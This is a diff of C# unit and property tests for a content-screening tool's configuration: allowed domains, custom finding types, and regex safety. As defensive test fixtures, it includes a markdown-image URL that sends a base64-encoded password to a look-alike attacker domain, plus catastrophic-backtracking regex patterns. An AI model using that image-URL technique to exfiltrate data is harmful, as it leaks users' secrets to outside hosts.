@@ -4,6 +4,9 @@ using Custos.Core.Configuration;
 using Custos.Core.Policies;
 using Custos.Core.Screening;
 using Custos.Detection.Redaction;
+using FsCheck;
+using FsCheck.Fluent;
+using FsCheck.Xunit;
 
 namespace Custos.Core.Tests.Screening;
 
@@ -72,7 +75,7 @@ public sealed class ScreeningConfigTests
             Assert.Contains(messages, m => m.StartsWith($"{LineOf(extra, needle)}: ", StringComparison.Ordinal) && m.Contains(text, StringComparison.Ordinal));
         Has("typos:", "unknown key 'typos' in screening (did you mean 'types'?)");
         Has("EMAIL: allow", "'EMAIL' is not a finding type");
-        Has("EMAIL: allow", "custom patterns");
+        Has("EMAIL: allow", "needs a pattern");
         Has("email_address: allow", "(did you mean 'EMAIL_ADDRESS'?)");
         Has("SECRET: {in: blok", "(did you mean 'block'?)");
         Has("SECRET: {in: blok", "token redaction needs a token vault");
@@ -110,4 +113,141 @@ public sealed class ScreeningConfigTests
         // Policies that read the counts validate against it (the starter's guardrails read context.findings).
         Assert.True(Parse(string.Empty).IsValid);
     }
+
+    [Fact]
+    public void Allowed_domains_reach_the_scanner_and_allow_their_subdomains()
+    {
+        var config = Parse("""
+            screening:
+              allowed_domains: [Trusted.Example., partner.io]
+            """).GetConfigOrThrow();
+        Assert.Equal(["partner.io", "trusted.example"], config.Screening.AllowedDomains.Order(StringComparer.Ordinal));
+        var data = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("password=hunter2 and more data here"));
+        var screener = new Screener(config.Screening, Path.GetTempPath());
+        string Types(string url) => string.Join(",", screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x]({url}?d={data})" }), null).Select(f => f.Type));
+        Assert.DoesNotContain("EXFILTRATION", Types("https://cdn.trusted.example/p.png"), StringComparison.Ordinal);
+        Assert.DoesNotContain("EXFILTRATION", Types("https://partner.io/p.png"), StringComparison.Ordinal);
+        // Suffix match on whole labels: a look-alike domain is not a subdomain.
+        Assert.Contains("EXFILTRATION", Types("https://eviltrusted.example/p.png"), StringComparison.Ordinal);
+        Assert.Contains("EXFILTRATION", Types("https://trusted.example.attacker.net/p.png"), StringComparison.Ordinal);
+        Assert.Contains("EXFILTRATION", new Screener(Parse(string.Empty).GetConfigOrThrow().Screening, Path.GetTempPath())
+            .ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x](https://cdn.trusted.example/p.png?d={data})" }), null).Select(f => f.Type));
+    }
+
+    [Fact]
+    public void Bad_allowed_domains_are_reported_at_their_line_and_column()
+    {
+        const string extra = """
+            screening:
+              allowed_domains:
+                - https://trusted.example/
+                - "*.wild.example"
+                - com
+                - a..example
+                - ok.example
+                - {host: x}
+            """;
+        var result = Parse(extra);
+        Assert.False(result.IsValid);
+        void Has(string needle, string text) =>
+            Assert.Contains(result.Diagnostics, d => d.Line == LineOf(extra, needle) && d.Column == 7 && d.Message.Contains(text, StringComparison.Ordinal));
+        Has("https://trusted", "not a bare domain");
+        Has("*.wild", "write 'wild.example'");
+        Has("- com", "whole top-level domain");
+        Has("a..example", "empty label");
+        Has("{host: x}", "must be a domain");
+        Assert.DoesNotContain(result.Diagnostics, d => d.Line == LineOf(extra, "ok.example"));
+        Assert.Contains(Parse("screening:\n  allowed_domains: example.com").Diagnostics, d => d.Message.Contains("must be a list of domains", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void A_type_of_ones_own_is_found_scored_by_context_validated_and_acted_on()
+    {
+        var config = Parse("""
+            screening:
+              types:
+                EMPLOYEE_ID: {pattern: 'EMP-\d{6}', context: [employee, staff], score: 0.4, in: redact, out: block, redaction: mask}
+                LOYALTY_CARD: {pattern: '\b\d{4} \d{4} \d{4} \d{4}\b', validator: luhn, score: 0.9}
+              agents:
+                dev-agent: {EMPLOYEE_ID: {in: allow}}
+            """).GetConfigOrThrow();
+        var screener = new Screener(config.Screening, Path.GetTempPath());
+        List<ScreeningFinding> Find(string text, string? agent = null) => screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text }), agent);
+
+        // Score 0.4 is under min_score 0.5: only with a context word nearby (+0.35) is it reported.
+        Assert.DoesNotContain(Find("ticket EMP-123456 closed"), f => f.Type == "EMPLOYEE_ID");
+        var found = Assert.Single(Find("the employee EMP-123456 left"), f => f.Type == "EMPLOYEE_ID");
+        Assert.Equal((13, 23, ScreeningAction.Redact, "custom"), (found.Start, found.End, found.Action, found.Detector));
+        Assert.Equal(ScreeningAction.Allow, Assert.Single(Find("the employee EMP-123456 left", "dev-agent"), f => f.Type == "EMPLOYEE_ID").Action);
+        Assert.Contains("\"text\":\"the employee ***-****** left\"", screener.RedactArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = "the employee EMP-123456 left" }), "other").GetRawText(), StringComparison.Ordinal);
+
+        // The validator: a number failing Luhn is not the type.
+        Assert.Contains(Find("card 4111 1111 1111 1111"), f => f.Type == "LOYALTY_CARD" || f.Type == "CREDIT_CARD");
+        Assert.DoesNotContain(Find("card 4111 1111 1111 1112"), f => f.Type == "LOYALTY_CARD");
+    }
+
+    [Fact]
+    public void Patterns_that_cannot_run_in_linear_time_or_do_not_parse_are_refused_at_their_line()
+    {
+        const string extra = """
+            screening:
+              types:
+                BACKREF: {pattern: '(a)\1'}
+                LOOKAHEAD: {pattern: 'x(?=y)'}
+                BROKEN: {pattern: 'EMP-(\d{6}'}
+                lower_case: {pattern: 'abc'}
+                CHECKED: {pattern: 'C\d+', validator: luhnn, score: 7}
+              agents:
+                dev-agent: {NOPE_TYPE: block}
+            """;
+        var result = Parse(extra);
+        Assert.False(result.IsValid);
+        void Has(string needle, string text) =>
+            Assert.Contains(result.Diagnostics, d => d.Line == LineOf(extra, needle) && d.Column > 1 && d.Message.Contains(text, StringComparison.Ordinal));
+        Has("BACKREF", "needs backtracking");
+        Has("LOOKAHEAD", "needs backtracking");
+        Has("BROKEN", "not a valid regular expression");
+        Has("lower_case", "capitals, digits and underscores");
+        Has("CHECKED", "validator must be one of: none, luhn, mod97 (did you mean 'luhn'?)");
+        Has("CHECKED", "score must be a number between 0 and 1");
+        Has("NOPE_TYPE", "is not a finding type");
+    }
+
+    [Fact]
+    public void A_hostile_pattern_stays_linear_on_a_large_adversarial_input()
+    {
+        var config = Parse("""
+            screening:
+              types:
+                EVIL: {pattern: '(a+)+$', score: 0.9}
+                EVIL2: {pattern: '(a|aa)*b', score: 0.9}
+            """).GetConfigOrThrow();
+        var screener = new Screener(config.Screening, Path.GetTempPath());
+        var text = new string('a', 1_000_000) + "!";
+        var watch = System.Diagnostics.Stopwatch.StartNew();
+        var findings = screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text }), null);
+        watch.Stop();
+        Assert.DoesNotContain(findings, f => f.Type is "EVIL" or "EVIL2");
+        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"took {watch.Elapsed}");
+    }
+
+    /// <summary>Any pattern made of regex pieces either compiles into a type that scans, or is one diagnostic at its line; never a throw.</summary>
+    [Property(MaxTest = 300)]
+    public Property Any_pattern_is_a_working_type_or_a_diagnostic() =>
+        Prop.ForAll(
+            Gen.ListOf(Gen.Elements("a", "(", ")", "+", "*", "?", "\\d", "\\1", "(?=", "(?<", "[", "]", "{2,}", "|", "^", "$", ".", "\\b", "(?>", "\\")).Select(parts => string.Concat(parts)).ToArbitrary(),
+            pattern =>
+            {
+                var quoted = "'" + pattern.Replace("'", "''", StringComparison.Ordinal) + "'";
+                var extra = $"screening:\n  types:\n    GEN_TYPE: {{pattern: {quoted}, score: 0.9}}\n";
+                var result = Parse(extra);
+                if (!result.IsValid)
+                {
+                    return result.Diagnostics.Count > 0 && result.Diagnostics.All(d => d.Line == LineOf(extra, "GEN_TYPE") && d.Column > 1);
+                }
+
+                var screener = new Screener(result.GetConfigOrThrow().Screening, Path.GetTempPath());
+                _ = screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = "aaaa 1234 b " + new string('a', 2000) }), null);
+                return pattern.Length > 0;
+            });
 }
